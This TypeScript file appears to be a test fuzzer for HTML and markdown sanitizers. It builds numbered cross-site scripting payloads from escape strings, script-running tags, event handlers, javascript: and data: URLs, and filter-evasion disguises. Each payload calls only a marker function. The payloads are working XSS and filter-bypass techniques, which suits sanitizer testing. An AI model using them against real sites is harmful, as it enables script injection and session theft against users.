/*
 * Text that would run a script if a page took it for markup. Made from a grammar: a way out of the
 * place it stands in, something that runs, and a disguise. Each says its number when it runs, by
 * `evil(n)`, and carries `evil-n` to be found by and `data-evil` on the element it would make.
 */

/** Ways out of the place that text may stand in: element, attribute, script, style, comment, JSON, markdown. */
const EXITS = ["", "\">", "'>", "\" ", "' ", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "`", "\\\"", "</option></select>", "</svg>", "</noscript>", "\n\n", "}}", "${", "&quot;>"];

/** What would run. */
const RUNNERS: readonly ((n: number) => string)[] = [
  (n) => `<script data-evil>evil(${n})</script>`,
  (n) => `<img data-evil src=x onerror=evil(${n})>`,
  (n) => `<svg data-evil onload=evil(${n})>`,
  (n) => `<iframe data-evil srcdoc="<script>parent.evil(${n})</script>"></iframe>`,
  (n) => `<iframe data-evil src="javascript:parent.evil(${n})"></iframe>`,
  (n) => `<a data-evil href="javascript:evil(${n})" autofocus onfocus=evil(${n})>x</a>`,
  (n) => `<details data-evil open ontoggle=evil(${n})>`,
  (n) => `<input data-evil autofocus onfocus=evil(${n})>`,
  (n) => `<video data-evil><source onerror=evil(${n})></video>`,
  (n) => `<math data-evil><mtext><style><img src=x onerror=evil(${n})></style></mtext></math>`,
  (n) => `<base data-evil href="javascript:evil(${n})//">`,
  (n) => `<meta data-evil http-equiv="refresh" content="0;url=javascript:evil(${n})">`,
  (n) => `<object data-evil data="javascript:evil(${n})"></object>`,
  (n) => `<form data-evil action="javascript:evil(${n})"><button autofocus onfocus=evil(${n})>x</button></form>`,
  (n) => `<style data-evil>@import 'data:text/css,*{}';</style><body onload=evil(${n})>`,
  (n) => `onmouseover=evil(${n}) autofocus onfocus=evil(${n}) x=`,
  (n) => `;evil(${n});//`,
  (n) => `{{constructor.constructor('evil(${n})')()}}`,
];

/** What markdown would make of text. */
const MARKDOWN: readonly ((n: number) => string)[] = [
  (n) => `[x](javascript:evil(${n}))`,
  (n) => `![x](x "onerror=evil(${n})")`,
  (n) => `![x](javascript:evil(${n}))`,
  (n) => `[x]: javascript:evil(${n})\n\n[x]`,
  (n) => `<javascript:evil(${n})>`,
  (n) => `[x](data:text/html;base64,${Buffer.from(`<script>evil(${n})</script>`).toString("base64")})`,
  (n) => `[x](java\tscript:evil(${n}))`,
  (n) => `[x](&#106;avascript:evil(${n}))`,
  (n) => `[x](vbscript:evil(${n}))`,
  (n) => `\`\`\`html\n<img data-evil src=x onerror=evil(${n})>\n\`\`\``,
  (n) => `| a |\n| --- |\n| <img data-evil src=x onerror=evil(${n})> |`,
  (n) => `> <svg data-evil onload=evil(${n})>`,
];

/** Disguises of markup that filters by pattern would miss. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w+)/g, (_all, tag: string) => `<${tag.toUpperCase()}`),
  (text) => text.replace(/<(\w+) /g, "<$1/"),
  (text) => text.replace(/on(\w+)=/g, "on$1\n="),
  (text) => text.replaceAll("javascript:", "JaVa\u0000ScRiPt:").replaceAll("\u0000", "&Tab;"),
  (text) => `\u202e${text}`,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\\u003c"),
];

/** The n-th text, another for each n up to many thousands; `markdown` draws from what markdown knows too. */
export function makePayload(n: number, kind: "text" | "markdown"): string {
  const runners = kind === "markdown" ? [...MARKDOWN, ...RUNNERS] : RUNNERS;
  // Steps that share no factor with the lengths, so that the three go through all their pairs.
  const runner = runners[n % runners.length] as (n: number) => string;
  const exit = EXITS[Math.floor(n / runners.length + n) % EXITS.length] ?? "";
  const disguise = DISGUISES[Math.floor(n / 7) % DISGUISES.length] as (text: string) => string;
  const clean = kind === "markdown" ? exit.replaceAll("`", "") : exit.replaceAll("\n", " ");
  return `evil-${n} ${clean}${disguise(runner(n))}`;
}
